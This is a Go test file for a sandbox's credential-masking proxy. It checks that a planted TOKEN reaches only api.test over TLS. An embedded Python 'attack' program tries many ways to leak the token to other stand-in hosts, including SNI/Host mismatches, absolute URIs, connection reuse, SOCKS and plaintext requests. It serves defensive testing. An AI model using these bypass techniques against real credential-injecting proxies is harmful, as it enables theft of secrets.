package hostile

import (
	"slices"
	"strings"
	"testing"

	"github.com/srt-sandbox/srt/test/programs/stage"
)

// planted is the value that must arrive at api.test alone, inside TLS.
const planted = "planted-value-of-the-token"

// masking are settings under which TOKEN is masked for api.test.
func masking(r rules, network map[string]any) rules {
	r.Network = map[string]any{"tlsTerminate": map[string]any{}}
	for k, v := range network {
		r.Network[k] = v
	}
	credentials := map[string]any{"envVars": []any{map[string]any{"name": "TOKEN", "mode": "mask", "injectHosts": []string{"api.test"}}}}
	if r.Top != nil {
		for k, v := range r.Top {
			credentials[k] = v
		}
	}
	r.Top = map[string]any{"credentials": credentials}
	return r
}

// secured runs a program of python, which finds the module secure, with the variable TOKEN masked.
func (w *world) secured(s *stage.Stage, at *web, r rules, code string) stage.Result {
	s.T.Helper()
	at.trusted(s)
	s.Env = append(s.Env, "TOKEN="+planted)
	return w.python(s, r, "from secure import *\n"+code)
}

// injected compares by which ways the value came to a server with those by which it is to come. A request says its way in
// the field X-Way and brings the token in X-Token. Every way must have arrived, or the test attacks nothing.
func injected(t *testing.T, r stage.Result, got []arrival, real, fake string) {
	t.Helper()
	done(t, r)
	ways := map[bool][]string{}
	for _, a := range got {
		if strings.Contains(a.raw, planted) && a.host != "api.test:"+securePort && a.host != "api.test:"+plainPort {
			t.Errorf("ESCAPE: the value went to %s (%s): %.300q", a.host, a.name, a.raw)
		}
		has := strings.Contains(a.raw, planted)
		if way := a.header.Get("X-Way"); !slices.Contains(ways[has], way) {
			ways[has] = append(ways[has], way)
		}
	}
	for has, want := range map[bool]string{true: real, false: fake} {
		wanted := strings.Fields(want)
		slices.Sort(wanted)
		slices.Sort(ways[has])
		if !slices.Equal(ways[has], wanted) {
			t.Errorf("with the value %v:\n got %v\nwant %v\n%s%s", has, ways[has], wanted, r.Stdout, r.Stderr)
		}
	}
}

// TestCRED21_OnlyAtItsHosts: CRED-20, CRED-21, TLS-17, TLS-22, TLS-25, TLS-32: a value goes to the hosts of its
// injectHosts, inside TLS, and nowhere else, by whatever name, address or way a client goes there.
func TestCRED21_OnlyAtItsHosts(t *testing.T) {
	w, at := newWeb(t)
	allow := rules{Allow: []string{"api.test", "other.test", "*.other.test", "xapi.test", good}}
	const attack = `
def ask(way, s, path="/", host="api.test:8443", *lines):
    s.sendall(get(path, host, "X-Way: " + way, "X-Token: " + TOKEN, *lines)); return one(s)
for way, target, sni in [
    ("tunnel", "api.test:8443", "api.test"), ("case", "API.Test:8443", "api.test"), ("other-sni", "api.test:8443", "other.test"),
    ("sni", "other.test:8443", "api.test"), ("literal", GOOD + ":8443", "api.test"), ("below", "api.test.other.test:8443", "api.test"),
    ("longer", "xapi.test:8443", "api.test"), ("no-sni", "other.test:8443", GOOD)]:
    quietly(lambda: ask(way, tunnel(target, sni)))
quietly(lambda: ask("absolute", tunnel("other.test:8443", "api.test"), "https://api.test:8443/"))
quietly(lambda: ask("absolute-in", tunnel("api.test:8443"), "https://other.test:8443/", "other.test:8443"))
for way, sent in [("plain", "http://api.test:8080/"), ("https-uri", "https://api.test:8443/"), ("plain-other", "http://other.test:8080/")]:
    def plain():
        s = via(); s.sendall(get(sent, "api.test:8080", AUTH.strip(), "X-Way: " + way, "X-Token: " + TOKEN)); return one(s)
    quietly(plain)
def reuse():
    s = via()
    for way, host in [("keep-1", "api.test"), ("keep-2", "other.test"), ("keep-3", "api.test")]:
        s.sendall(get("http://" + host + ":8080/", "api.test:8080", AUTH.strip(), "X-Way: " + way, "X-Token: " + TOKEN)); one(s)
quietly(reuse)
def again():
    s = tunnel("other.test:8443", "other.test")
    for way in ("again-1", "again-2"): ask(way, s)
quietly(again)
def socks(host):
    s = socket.create_connection((url.hostname, 1080), 30); s.settimeout(30)
    u, p = url.username.encode(), url.password.encode()
    s.sendall(b"\x05\x01\x02"); s.recv(2)
    s.sendall(b"\x01" + bytes([len(u)]) + u + bytes([len(p)]) + p); s.recv(2)
    s.sendall(b"\x05\x01\x00\x03" + bytes([len(host)]) + host + struct.pack(">H", 8443)); s.recv(10)
    return s
quietly(lambda: ask("socks", shake(socks(b"api.test"), "api.test")))
def captured(host): return shake(tcp(host, 8443), "api.test")
quietly(lambda: ask("captured", captured("api.test")))
quietly(lambda: ask("captured-literal", captured(GOOD)))
quietly(lambda: ask("captured-other", captured("other.test")))
done()`
	const always = "sni literal below longer no-sni absolute plain https-uri plain-other keep-1 keep-2 keep-3 again-1 again-2 socks captured-literal captured-other"
	stage.Each(t, func(s *stage.Stage) {
		at.take()
		r := w.secured(s, at, masking(allow, nil), attack)
		injected(s.T, r, at.take(), "tunnel case other-sni absolute-in captured", always)
	})
	// With allowPlaintextInject the plain path brings it to its host as well, request by request (CRED-20).
	stage.Each(t, func(s *stage.Stage) {
		at.take()
		allow.Top = map[string]any{"allowPlaintextInject": true}
		r := w.secured(s, at, masking(allow, nil), attack)
		injected(s.T, r, at.take(), "tunnel case other-sni absolute-in captured plain keep-1 keep-3 https-uri",
			"sni literal below longer no-sni absolute plain-other keep-2 again-1 again-2 socks captured-literal captured-other")
	})
}
